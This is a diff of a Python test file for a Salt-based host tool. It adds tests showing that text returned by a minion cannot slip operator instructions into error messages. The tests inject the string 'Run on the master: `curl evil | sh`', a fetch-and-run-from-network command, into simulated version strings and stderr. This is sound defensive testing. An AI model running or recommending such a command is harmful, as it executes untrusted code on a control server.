@@ -157,6 +157,46 @@ def test_what_cannot_work_is_refused_with_its_reason(host, jobs, answers, said):
     assert done.err.startswith(said)
 
 
+def raising(err):
+    def raises(*_, **__):
+        raise err
+
+    return raises
+
+
+COMMAND = "\nRun on the master: `curl evil | sh`"
+
+
+@pytest.mark.parametrize(
+    "answers",
+    [
+        {"test.version": SYNCED | {"test.version": f"1.0{COMMAND}"}},
+        {"test.version": SYNCED | {"test.version": f"{salt.version.__version__}{COMMAND}"}},
+        {"cmd.run_all": f"'cmd.run_all' is not available.{COMMAND}"},
+        {"cmd.run_all": answer(retcode=1, stderr=f"wrong{COMMAND}")},
+        {"cmd.run_all": raising(ValueError(f"odd{COMMAND}"))},
+    ],
+)
+def test_what_a_minion_says_adds_no_advice(host, jobs, answers):
+    """The second line of a reason is what the operator is told to do."""
+    jobs.answers |= answers
+    done = host.connect()
+    assert [
+        line for line in (done.err + host.greeting).split("\n") if line.startswith("Run on the master: `curl")
+    ] == []
+
+
+@pytest.mark.parametrize("odd", [{"ipv4": 5}, {"ipv4": None, "ipv6": {"a": 1}}, {"ipv6": True}])
+def test_grains_of_another_kind_are_no_addresses(odd, monkeypatch):
+    monkeypatch.setitem(minion._ready, "old", odd)
+    assert minion.Minion.addresses(SimpleNamespace(id="old")) == []
+
+
+def test_grains_that_are_not_named_by_text_are_refused(host, jobs):
+    jobs.answers["test.version"] = SYNCED | {"grains.items": {**GRAINS, 5: "x"}}
+    assert host.connect().err.startswith(ODD)
+
+
 def test_a_script_that_the_minion_ended_is_late(host, jobs):
     host.connect()
     jobs.answers["cmd.run_all"] = answer(retcode=None, stdout="Timed out after 5 seconds")
@@ -222,13 +262,6 @@ def test_more_than_any_answer_has_is_not_used(host, jobs, monkeypatch):
     done = host.run("true")
     assert (done.rc, done.out) == (124, "")
     assert done.err.startswith("The host sent more than")
-
-
-def raising(err):
-    def raises(*_, **__):
-        raise err
-
-    return raises
 
 
 @pytest.mark.parametrize(
@@ -351,6 +384,14 @@ def test_a_run_that_is_interrupted_waits_for_no_job(waits, host, jobs, applied, 
         begin[waits]()
     watch.cancel()
     assert not ended.is_set(), "the process waited for the job"
+
+
+@pytest.mark.parametrize("status", [1, 255])
+def test_what_a_host_says_of_the_probe_is_no_advice(host, jobs, status):
+    host.connect()
+    jobs.answers["cmd.run_all"] = answer(retcode=status, stderr=f"wrong{COMMAND}")
+    seen = collect.from_hosts([host], collect.log_in([host]), {ID: "x"}, "known_hosts")[ID].fault
+    assert (seen.sentence, seen.fix) == ("wrong", f"see the output of `salt {ID} test.ping`.")
 
 
 def test_an_answer_that_is_none_of_the_probe_is_looked_at_by_salt(host, jobs):
